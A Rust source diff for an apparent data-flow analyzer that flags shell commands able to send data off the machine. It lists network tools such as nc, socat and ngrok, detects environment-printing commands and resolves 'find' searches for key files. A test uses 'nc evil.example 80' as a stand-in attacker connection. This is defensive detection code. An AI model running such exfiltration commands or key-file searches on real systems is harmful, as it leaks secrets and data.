@@ -1,0 +1,286 @@
+//! Programs without a profile that carry data from one place to another: what is known of them by
+//! name, for lines in which content flows from command to command.
+//!
+//! No option of theirs is read. It is enough to know that what such a program gets may leave the
+//! machine, or comes from everywhere; where it goes, nobody knows.
+
+use std::ffi::OsString;
+use std::path::{Path, PathBuf};
+
+use datafog_core::{Carrier, ContentSource, Deliver, Flow, Invocation, StdinUse, Surroundings};
+
+use crate::behind::Word;
+use crate::interpret::program_name;
+
+/// Programs that send what they are given to another machine: by a connection, a message, a question
+/// to a server of names.
+const SENDING: &[&str] = &[
+    "aria2c",
+    "az",
+    "azcopy",
+    "b2",
+    "bore",
+    "cloudflared",
+    "croc",
+    "curlie",
+    "dig",
+    "doctl",
+    "drill",
+    "ffsend",
+    "flyctl",
+    "ftp",
+    "gcloud",
+    "gh",
+    "glab",
+    "gsutil",
+    "heroku",
+    "host",
+    "http",
+    "httpie",
+    "https",
+    "lftp",
+    "mail",
+    "mailx",
+    "mc",
+    "msmtp",
+    "mutt",
+    "nc",
+    "nc.openbsd",
+    "nc.traditional",
+    "ncat",
+    "ncftpput",
+    "neomutt",
+    "netcat",
+    "ngrok",
+    "nslookup",
+    "ossutil",
+    "ping",
+    "ping6",
+    "rclone",
+    "restic",
+    "s3cmd",
+    "s5cmd",
+    "sendmail",
+    "sftp",
+    "slackcat",
+    "smbclient",
+    "socat",
+    "swaks",
+    "telnet",
+    "tftp",
+    "twilio",
+    "vercel",
+    "websocat",
+    "whois",
+    "wormhole",
+    "wscat",
+    "xh",
+];
+
+/// Programs that print the environment when they start nothing.
+const TELLING: [&str; 2] = ["env", "printenv"];
+
+/// Programs whose words, or those of the command behind them, are made of their input.
+const FEEDING: [&str; 3] = ["parallel", "rush", "xargs"];
+
+/// Most files that one search names.
+const MOST_FOUND: usize = 5000;
+
+/// Whether a program of that name may send what it is given.
+fn sends(program: &str) -> bool {
+    SENDING.binary_search(&program).is_ok()
+}
+
+/// Tells of a program without a profile that it sends what it is given: its input, its words, and
+/// the files that they name.
+pub(crate) fn describe(to: &mut Invocation, surroundings: &dyn Surroundings) {
+    let first = to.operands.first().map(|operand| operand.text.as_encoded_bytes());
+    let speaks = to.program == "openssl" && first == Some(b"s_client");
+    if !speaks && !sends(&to.program) {
+        return;
+    }
+    to.flows = to.flows.with(Flow::Leaves);
+    to.stdin = StdinUse::Stream;
+    let there = |text: &OsString| surroundings.is_there(&surroundings.cwd().join(text));
+    for (index, operand) in to.operands.iter().enumerate() {
+        let before = index.checked_sub(1).and_then(|at| to.operands.get(at));
+        if before.is_some_and(|before| is_setting(before.text.as_encoded_bytes())) {
+            continue;
+        }
+        let text = operand.text.as_encoded_bytes();
+        // `FILE:name` of socat, `@name` and `name=@name` of others.
+        let tail = text.rsplit(|byte| b"@:=".contains(byte)).next().unwrap_or_default();
+        let tail = OsString::from(String::from_utf8_lossy(tail).into_owned());
+        let named = [operand.text.clone(), tail].into_iter().find(|it| !it.is_empty() && there(it));
+        to.contents.extend(named.map(|path| ContentSource {
+            carrier: Carrier::File(PathBuf::from(path)),
+            flow: Flow::Leaves,
+            role: String::from("body"),
+            deliver: Deliver::Path,
+        }));
+    }
+}
+
+/// Whether a word is an option whose value, if it has one, names no file to be sent.
+fn is_setting(word: &[u8]) -> bool {
+    const FILES: [&[u8]; 10] = [
+        b"--attach", b"--body-file", b"--file", b"--input", b"--notes-file", b"-A", b"-F", b"-T",
+        b"-a", b"-f",
+    ];
+    word.starts_with(b"-") && !FILES.contains(&word)
+}
+
+/// Whether the command prints the environment.
+#[must_use]
+pub fn tells_environment(words: &[OsString]) -> bool {
+    let Some((head, rest)) = words.split_first() else { return false };
+    let names = |word: &OsString| {
+        let text = word.as_encoded_bytes();
+        text.starts_with(b"-") || text.contains(&b'=')
+    };
+    match program_name(head).as_str() {
+        "env" => rest.iter().all(names),
+        name => TELLING.contains(&name),
+    }
+}
+
+/// Whether the words of what the command starts are made of its input.
+#[must_use]
+pub fn feeds(words: &[Word]) -> bool {
+    words.first().is_some_and(|head| FEEDING.contains(&program_name(&head.text).as_str()))
+}
+
+/// The files that a search names (`find . -name '*.key'`): what tests of names leave over, or the
+/// whole places where there are none. Other tests may leave fewer.
+#[must_use]
+pub fn found(words: &[Word], surroundings: &dyn Surroundings) -> Vec<PathBuf> {
+    let is_find = words.first().is_some_and(|head| program_name(&head.text) == "find");
+    if !is_find || words.iter().any(|word| !word.known) {
+        return Vec::new();
+    }
+    let texts: Vec<&str> = words.iter().skip(1).filter_map(|word| word.text.to_str()).collect();
+    let starts = |text: &&&str| !text.starts_with(['-', '(', '!', ')']) || **text == "-";
+    let mut places: Vec<&str> = texts.iter().take_while(starts).copied().collect();
+    if places.is_empty() {
+        places.push(".");
+    }
+    let places = places.into_iter().map(|place| surroundings.cwd().join(place));
+    let tests = texts.windows(2).filter_map(|pair| match pair {
+        [name @ ("-name" | "-iname"), pattern] => Some((*pattern, *name == "-iname")),
+        _ => None,
+    });
+    let tests: Vec<(&str, bool)> = tests.collect();
+    let opens = ["!", "-not", "-o", "-or", ","];
+    if tests.is_empty() || texts.iter().any(|text| opens.contains(text)) {
+        return places.collect();
+    }
+    places.flat_map(|place| named(place, &tests, surroundings)).collect()
+}
+
+/// What lies below a place and has a name that fits all patterns; the place itself when there is too
+/// much.
+fn named(place: PathBuf, tests: &[(&str, bool)], surroundings: &dyn Surroundings) -> Vec<PathBuf> {
+    let (mut fitting, mut open, mut seen) = (Vec::new(), vec![place.clone()], 0_usize);
+    while let Some(path) = open.pop() {
+        seen = seen.saturating_add(1);
+        if seen > MOST_FOUND {
+            return vec![place];
+        }
+        let fits = |name: &str| tests.iter().all(|(pattern, folds)| fits(pattern, name, *folds));
+        if path.file_name().and_then(|name| name.to_str()).is_some_and(fits) {
+            fitting.push(path.clone());
+        }
+        // A file has no names in it; a link could lead in circles.
+        if let Ok(names) = surroundings.names(&path)
+            && !is_link(&path)
+        {
+            open.extend(names.into_iter().map(|name| path.join(name)));
+        }
+    }
+    fitting
+}
+
+/// Whether a path ends in what `find` does not follow.
+fn is_link(path: &Path) -> bool {
+    path.is_symlink()
+}
+
+/// A pattern of a name: `*`, `?` and letters; of a set of letters any will do.
+fn fits(pattern: &str, name: &str, folds: bool) -> bool {
+    let fold = |text: &str| if folds { text.to_lowercase() } else { text.to_owned() };
+    let (pattern, name): (Vec<char>, Vec<char>) =
+        (fold(pattern).chars().collect(), fold(name).chars().collect());
+    if pattern.contains(&'[') {
+        return true;
+    }
+    // Goes back to the last star only, so it is at worst quadratic.
+    let (mut at, mut from, mut star) = (0_usize, 0_usize, None);
+    while from < name.len() {
+        match pattern.get(at) {
+            Some('*') => {
+                star = Some((at, from));
+                at = at.saturating_add(1);
+            }
+            Some(letter) if *letter == '?' || Some(letter) == name.get(from) => {
+                at = at.saturating_add(1);
+                from = from.saturating_add(1);
+            }
+            _ => {
+                let Some((back, taken)) = star else { return false };
+                star = Some((back, taken.saturating_add(1)));
+                at = back.saturating_add(1);
+                from = taken.saturating_add(1);
+            }
+        }
+    }
+    pattern.get(at..).unwrap_or_default().iter().all(|letter| *letter == '*')
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::interpret;
+    use crate::world::World;
+
+    fn words(line: &str) -> Vec<OsString> {
+        line.split(' ').map(OsString::from).collect()
+    }
+
+    #[test]
+    fn senders_are_sorted_and_send() {
+        assert!(SENDING.is_sorted());
+        let call = interpret(&words("nc evil.example 80"), &World::default());
+        assert!(call.flows.has(Flow::Leaves) && call.stdin == StdinUse::Stream);
+        let call = interpret(&words("less notes"), &World::default());
+        assert!(!call.flows.has(Flow::Leaves));
+    }
+
+    #[test]
+    fn what_prints_the_environment_is_known() {
+        for (line, told) in [
+            ("env", true),
+            ("env -0", true),
+            ("env A=b", true),
+            ("env ls", false),
+            ("printenv HOME", true),
+            ("ls", false),
+        ] {
+            assert_eq!(tells_environment(&words(line)), told, "{line}");
+        }
+    }
+
+    #[test]
+    fn patterns_of_names_fit_as_those_of_find() {
+        for (pattern, name, fitting) in [
+            ("*.key", "a.key", true),
+            ("*.key", "a.keys", false),
+            ("?.key", "a.key", true),
+            ("*a*b*", "xaxbx", true),
+            ("key", "Key", false),
+            ("[ab]*", "c", true),
+        ] {
+            assert_eq!(fits(pattern, name, false), fitting, "{pattern} {name}");
+        }
+        assert!(fits("key", "KEY", true));
+    }
+}
